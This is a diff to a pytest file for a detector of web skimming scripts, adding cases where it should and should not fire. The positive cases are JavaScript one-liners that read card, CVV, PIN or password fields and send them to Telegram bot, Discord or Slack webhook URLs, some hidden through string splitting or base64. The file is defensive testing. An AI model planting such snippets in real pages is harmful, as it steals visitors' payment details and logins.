@@ -119,7 +119,74 @@ def test_one_named_field_is_not_enough() -> None:
     assert not found(f"fetch('https://a.pool.test/'+{'+'.join(names[: MIN_NAMED - 1])})")
 
 
-@pytest.mark.parametrize("part", ["\\x61", "fetch('https://a.", "querySelectorAll('", "'+'", "atob('YWJjZGVmZ2g='"])
+BOT = "https://api.telegram.org/bot6000000001:AAtestToken/sendMessage"
+HOOK = "https://discord.com/api/webhooks/100000000000000001/testTokenOfSomeLength"
+SHOP = "<form><label>카드<input id=c name=card><input name=cvv></label><input name=pin type=password></form>"
+SIGN_IN = "<form id=f><input name=mail><input id=haslo name=haslo type=password></form>"
+CALLBACK = "<form id=cb><input name=who><input name=phone type=tel></form>"
+WHOLE = "f.onsubmit=e=>{e.preventDefault();fetch('BOT',{method:'POST',body:new FormData(f)})}"
+LETTERS = "function go(){fetch('BOT?text='+f.haslo.value);return false}"
+
+
+@pytest.mark.parametrize(
+    ("script", "page"),
+    [
+        (WHOLE.replace("BOT", BOT), SHOP),
+        (WHOLE.replace("BOT", HOOK), SHOP),
+        (WHOLE.replace("BOT", "https://hooks.slack.com/services/T00000001/B00000001/testTokenOfSome"), SHOP),
+        (WHOLE.replace("'BOT'", "`https://api.telegram.org/bot${t}/sendMessage`"), SHOP),
+        (WHOLE.replace("'BOT'", "'https://api.tele'+'gram.org/bot'+t"), SHOP),
+        (WHOLE.replace("'BOT'", f"atob('{base64_of(BOT)}')"), SHOP),
+        (WHOLE.replace("BOT", BOT.replace("api.telegram.org", "relay.pool.test")), SHOP),
+        (f"fetch('{BOT}?text='+f.cvv.value);return false", SHOP + CALLBACK),
+        (f"document.querySelectorAll('input').forEach(e=>t+=e.value);fetch('{BOT}?text='+t)", SHOP + CALLBACK),
+        (WHOLE.replace("BOT", BOT), SIGN_IN),
+        (LETTERS.replace("BOT", BOT), SIGN_IN + CALLBACK),
+        (LETTERS.replace("BOT", HOOK).replace("f.haslo", "$('#haslo')"), SIGN_IN),
+    ],
+)
+def test_secrets_that_go_to_a_chat(script: str, page: str) -> None:
+    """Of a card or an account, by the address of any service that takes messages with a token in it."""
+    assert found(script, page) == ["skimming-script"]
+
+
+@pytest.mark.parametrize(
+    ("script", "page"),
+    [
+        (WHOLE.replace("BOT", BOT), CALLBACK),
+        (WHOLE.replace("BOT", BOT), CALLBACK + SIGN_IN),
+        (WHOLE.replace("BOT", BOT), CALLBACK + SHOP),
+        (WHOLE.replace("BOT", BOT), CALLBACK.replace("name=who", "name=card_number")),
+        (WHOLE.replace("BOT", HOOK), "<form><textarea name=report></textarea></form>"),
+        (f"fetch('{BOT}?text='+f.who.value+f.phone.value)", CALLBACK + SIGN_IN),
+        (f"fetch('{BOT}?text='+f.mail.value);fetch('/login',{{body:f.haslo.value}})", SIGN_IN),
+        (f"auth.signInWithPassword(f.mail.value,f.haslo.value);fetch('{BOT}?text='+f.mail.value)", SIGN_IN),
+        (f"import {{signIn}} from '/a.js';signIn(f.haslo.value);fetch('{BOT}?text='+f.mail.value)", SIGN_IN),
+        (f"$.post('/signup',{{p:f.haslo.value}});$.ajax('{BOT}');new Image", SIGN_IN),
+        (f"window.onerror=m=>fetch('{HOOK}',{{method:'POST',body:m}})", SIGN_IN),
+        ("fetch('https://t.me/bot_help',{body:f.haslo.value})", SIGN_IN),
+        ("fetch('https://example.com/api/webhooks/',{body:f.haslo.value})", CALLBACK),
+        ("fetch('https://example.com/bot/answer?q='+f.haslo.value)", SIGN_IN),
+    ],
+)
+def test_messages_without_a_secret(script: str, page: str) -> None:
+    """Orders, calls back, reports of errors, and news of a visitor whose password goes where it belongs."""
+    assert found(script, page) == []
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        "\\x61",
+        "fetch('https://a.",
+        "querySelectorAll('",
+        "'+'",
+        "atob('YWJjZGVmZ2g='",
+        "//api.telegram.org/bot1",
+        "//a/api/webhooks/1",
+        "fetch('/",
+    ],
+)
 def test_hostile_scripts_cost_linear_time(part: str) -> None:
     """Every search is bounded."""
     pages = {n: make_document(f"{FIELDS}<script>fetch value {part * n}</script>") for n in (3_000, 6_000, 12_000)}
